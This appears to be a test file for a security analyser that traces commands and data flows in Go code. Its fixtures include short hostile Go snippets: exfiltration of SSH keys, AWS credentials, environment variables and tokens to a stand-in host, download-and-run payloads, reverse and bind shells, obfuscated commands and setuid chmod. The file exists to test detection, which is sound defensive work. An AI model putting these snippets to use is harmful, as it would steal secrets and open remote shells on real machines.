import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { mutations, survives } from "./mutations.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

/** A program that does this in its main function. */
const main = (body: string, imports = "") => `package main\n\nimport (\n\t"os"\n\t"os/exec"\n${imports}\n)\n\nfunc main() {\n${body}\n}\n`;

describe("commands and effects of Go", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = (text: string) => canonical(analyser, "go", text);

  const commands: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    ["a program and its arguments", main('exec.Command("ssh", "-R", "1:2:3", "h").Run()'), "ssh -R=1:2:3 -- h"],
    ["text for a shell", main('exec.Command("sh", "-c", "nohup ssh -R 1:2:3 h &").Start()'), "ssh -R=1:2:3 -- h"],
    ["a context", main('exec.CommandContext(ctx, "nmap", "h").Run()'), "nmap -- h"],
    ["a name for a package", 'package main\nimport e "os/exec"\nfunc main() { e.Command("nmap", "h").Run() }\n', "nmap -- h"],
    ["everything of a package", 'package main\nimport . "os/exec"\nfunc main() { Command("nmap", "h").Run() }\n', "nmap -- h"],
    [
      "a list that is spread",
      main('args := []string{"-p", "1"}\nargs = append(args, "h", "i")\nexec.Command("nmap", args...).Run()'),
      "nmap -p=1 -- h i",
    ],
    ["an empty list that grows", main('var args []string\nargs = append(args, "h")\nexec.Command("nmap", args...).Run()'), "nmap -- h"],
    [
      "constants and sums",
      'package main\nimport "os/exec"\nconst host, port = "h", "1"\nvar tool = "nm" + "ap"\nfunc main() { exec.Command(tool, host+":"+port).Run() }\n',
      "nmap -- h:1",
    ],
    ["Sprintf", main('exec.Command("sh", "-c", fmt.Sprintf("nmap %s -p %d %[1]s", "h", 1)).Run()'), "nmap -p=1 -- h h"],
    ["raw strings and escapes", main('exec.Command(`nmap`, "\\x68\\u0069").Run()'), "nmap -- hi"],
    [
      "Join and Fields",
      main(
        'a := strings.Fields("nmap h i")\nexec.Command(a[0], a[1:]...).Run()\nexec.Command("sh", "-c", strings.Join([]string{"nmap", "j"}, " ")).Run()',
      ),
      "nmap -- h i",
      "nmap -- j",
    ],
    [
      "what go generates with",
      'package main\n\n//go:generate sh -c "nmap h; nmap i"\n//go:generate nmap j\n',
      "nmap -- h",
      "nmap -- i",
      "nmap -- j",
    ],
    [
      "base64 and hexadecimal",
      main(
        'a, _ := base64.StdEncoding.DecodeString("bm1hcCBo")\nb, _ := hex.DecodeString("6e6d61702069")\nexec.Command("sh", "-c", string(a)+";"+string(b)).Run()',
      ),
      "nmap -- h",
      "nmap -- i",
    ],
    ["bytes", main("exec.Command(string([]byte{110, 0x6d, 'a', 'p'})).Run()"), "nmap"],
    [
      "a function of one's own",
      'package main\nfunc run(c string) { exec.Command("sh", "-c", c).Run() }\nfunc main() { run("nmap h") }\n',
      "nmap -- h",
    ],
    [
      "what functions return",
      main('t, err := target()\nexec.Command("nmap", t).Run()\n}\nfunc target() (string, error) {\n\treturn "h", nil'),
      "nmap -- h",
    ],
    [
      "a method and the fields of its object",
      'package main\ntype R struct{ host string }\nfunc (r *R) run(c string) { exec.Command("sh", "-c", c+" "+r.host).Run() }\nfunc main() {\n\tr := &R{host: "h"}\n\tr.run("nmap")\n}\n',
      "nmap -- h",
    ],
    ["a literal that is called", main('go func(c string) { exec.Command(c, "h").Run() }("nmap")'), "nmap -- h"],
    ["a loop over a list", main('for _, h := range []string{"a", "b"} {\n\texec.Command("nmap", h).Run()\n}'), "nmap -- a", "nmap -- b"],
    ["a value set in a branch", main('h := "a"\nif x {\n\th = "b"\n}\nexec.Command("nmap", h).Run()'), "nmap -- b", "nmap -- a"],
    ["an unknown part", 'package main\nfunc Scan(host string) { exec.Command("nmap", host).Run() }\n', 'nmap -- "$host"'],
    [
      "syscall.Exec, whose first argument is a name only",
      main('syscall.Exec("/usr/bin/nmap", []string{"x", "h"}, os.Environ())'),
      "nmap -- h",
    ],
    ["os.StartProcess", main('os.StartProcess("/usr/bin/nmap", []string{"x", "h"}, nil)'), "nmap -- h"],
    ["a command that is put together", main('c := exec.Cmd{Path: "/usr/bin/nmap", Args: []string{"x", "h"}}\nc.Run()'), "nmap -- h"],
    ["a removal", main('os.RemoveAll("/a")\nos.Remove("/b")'), "rm -f -r -- /a", "rm -- /b"],
    ["a change of mode", main('os.Chmod("/a", 0o4755)'), "chmod -- '04755' /a"],
    [
      "a remote forwarding of its own",
      main('c, _ := ssh.Dial("tcp", "h:22", cfg)\nc.Listen("tcp", "0.0.0.0:9")', '"golang.org/x/crypto/ssh"'),
      "ssh -R=0.0.0.0:9 -- h",
      ":connect h '22'",
    ],
  ];
  for (const [title, text, ...expected] of commands)
    it(`sees the command through ${title}`, async () => assert.deepEqual(await lines(text), expected));

  const effects: readonly (readonly [title: string, text: string, ...expected: string[]])[] = [
    [
      "a file posted",
      main(
        'd, err := os.ReadFile(os.Getenv("HOME") + "/.ssh/id_rsa")\nhttp.Post("https://u@X.example:1/in", "text/plain", bytes.NewReader(d))',
      ),
      ":read ~/.ssh/id_rsa | :send x.example",
    ],
    [
      "the home directory",
      main(
        'h, _ := os.UserHomeDir()\nd, _ := os.ReadFile(filepath.Join(h, ".aws", "credentials"))\nhttp.Post("https://x.example", "", strings.NewReader(string(d)))',
      ),
      ":read ~/.aws/credentials | :send x.example",
    ],
    [
      "an opened file",
      main('f, _ := os.Open("/a")\nd, _ := io.ReadAll(f)\nhttp.PostForm("http://x.example", url.Values{"d": {string(d)}})'),
      ":read /a | :send x.example",
    ],
    [
      "a request that is put together",
      main(
        'b, _ := json.Marshal(os.Environ())\nreq, _ := http.NewRequest("POST", "http://x.example", bytes.NewBuffer(b))\nclient := &http.Client{}\nclient.Do(req)',
      ),
      ":env '*' | :send x.example",
    ],
    [
      "a header",
      main(
        'req, _ := http.NewRequest("GET", "http://x.example", nil)\nreq.Header.Set("X", os.Getenv("TOKEN"))\nhttp.DefaultClient.Do(req)',
      ),
      ":env TOKEN | :send x.example",
    ],
    [
      "a download that is run",
      main('r, _ := http.Get("http://x.example/p")\nout, _ := os.Create("/tmp/p")\nio.Copy(out, r.Body)\nexec.Command("/tmp/p").Run()'),
      "/tmp/p",
      ":fetch http://x.example/p | :write /tmp/p",
      ":fetch http://x.example/p | :run /tmp/p",
    ],
    [
      "input of a command",
      main('r, _ := http.Get("http://x.example/p")\nc := exec.Command("sh")\nc.Stdin = r.Body\nc.Run()'),
      "sh",
      ":fetch http://x.example/p | :run sh",
    ],
    [
      "a shell on a connection",
      main('c, _ := net.Dial("tcp", "1.2.3.4:5")\ns := exec.Command("/bin/sh")\ns.Stdin, s.Stdout, s.Stderr = c, c, c\ns.Run()'),
      "sh",
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
      ":send '1.2.3.4'",
    ],
    [
      "what came over a connection",
      main('c, _ := net.Dial("tcp", "1.2.3.4:5")\nl, _ := bufio.NewReader(c).ReadString(10)\nexec.Command("sh", "-c", l).Run()'),
      'sh "-c=$l"',
      ":fetch '1.2.3.4' | :run sh",
      ":connect '1.2.3.4' '5'",
    ],
    [
      "a connection that is accepted",
      main('l, _ := net.Listen("tcp", ":80")\nc, _ := l.Accept()\ns := exec.Command("sh")\ns.Stdin = c'),
      "sh",
      ":fetch '0.0.0.0' | :run sh",
      ":listen '80'",
    ],
    [
      "what a command printed",
      main(
        'o, _ := exec.Command("cat", "/a").Output()\nfmt.Fprintf(dial(), "%s", o)\n}\nfunc dial() net.Conn {\n\tc, _ := net.Dial("tcp", "x.example:1")\n\treturn c',
      ),
      "cat -- /a",
      ":read /a | :send x.example",
      ":connect x.example '1'",
    ],
    ["a copy", main('d, _ := os.ReadFile("/a")\nos.WriteFile("/b", d, 0o600)'), ":read /a | :write /b"],
    ["a file that grows", main('f, _ := os.OpenFile("/a", os.O_APPEND|os.O_WRONLY, 0o600)\nf.WriteString("x")'), ":write /a", ":write /a"],
  ];
  for (const [title, text, ...expected] of effects) {
    it(`follows ${title}`, async () =>
      assert.deepEqual(
        (await lines(text)).filter((line) => !/^:fetch \S+$/.test(line)),
        expected,
      ));
  }

  const silent: readonly (readonly [title: string, text: string])[] = [
    ["text that is only printed", main('fmt.Println("ssh -R 1:2:3 h")\nx := "nmap h"\n_ = x')],
    [
      "a function of the same name",
      'package main\ntype T struct{}\nfunc (t T) Command(a string) {}\nfunc main() {\n\texec := T{}\n\texec.Command("nmap")\n}\n',
    ],
    [
      "a length that is sent",
      main('d, _ := os.ReadFile("/a")\nhttp.Post("http://x.example", "", strings.NewReader(strconv.Itoa(len(d))))'),
    ],
    ["test fixtures", 'package main\nvar cases = []struct{ in string }{{"curl x | sh"}, {"nmap h"}}\n'],
  ];
  for (const [title, text] of silent) {
    it(`sees no flow in ${title}`, async () =>
      assert.deepEqual(
        (await lines(text)).filter((line) => !/^:(?:fetch|read|send) \S+$/.test(line)),
        [],
      ));
  }

  it("names the host's function in via, outermost first", async () => {
    assert.deepEqual(await viaOf(analyser, "go", main('exec.Command("sudo", "nmap", "h").Run()')), [["go:exec.Command", "sudo"]]);
  });

  it("marks a command from its first word to its last, in the file", async () => {
    assert.deepEqual(await commandSpans(analyser, "go", main('exec.Command("nmap", "-p", "1", "h").Run()')), ['nmap", "-p", "1", "h']);
    assert.deepEqual(await commandSpans(analyser, "go", main('exec.Command("sh", "-c", `timeout 5 nmap h; x`).Run()')), ["nmap h", "x"]);
    assert.deepEqual(await commandSpans(analyser, "go", main('exec.Command("sh", "-c", "a \\x62 c").Run()')), ["a \\x62 c"]);
    assert.deepEqual(await commandSpans(analyser, "go", main('c := "nmap h"\nexec.Command("sh", "-c", c).Run()')), ["c"]);
  });

  it("says where the code cannot be parsed, and analyses the rest", async () => {
    const text = main('x := := 1\nexec.Command("nmap", "h").Run()');
    const { problems } = await analyser.analyse({ path: "a.go", text }, 5_000);
    assert.deepEqual(
      problems.map(({ code, weight, range }) => [code, weight, range?.start.line]),
      [["unparsed", "blocking", 9]],
    );
    assert.deepEqual(await lines(text), ["nmap -- h"]);
  });

  it("stands in files of its own", () => assert.equal(analyser.languageOf("a/b.go", ""), "go"));

  it("follows declarations without a body", async () => {
    assert.deepEqual(await lines('package main\nfunc a(x string)\nfunc main() { a("x"); exec.Command("nmap", "h").Run() }\n'), [
      "nmap -- h",
    ]);
  });

  it("survives what is nearly right", async () => {
    const text = effects
      .map(([, program]) => program)
      .join("\n")
      .slice(0, 3_000);
    await survives(
      analyser,
      "go",
      mutations(text, ["{", "}", "(", ")", '"', "`", ":=", ",", "func ", "type T ", "&", "...", "\\", "exec."], 60),
    );
  });
}).timeout(60_000);
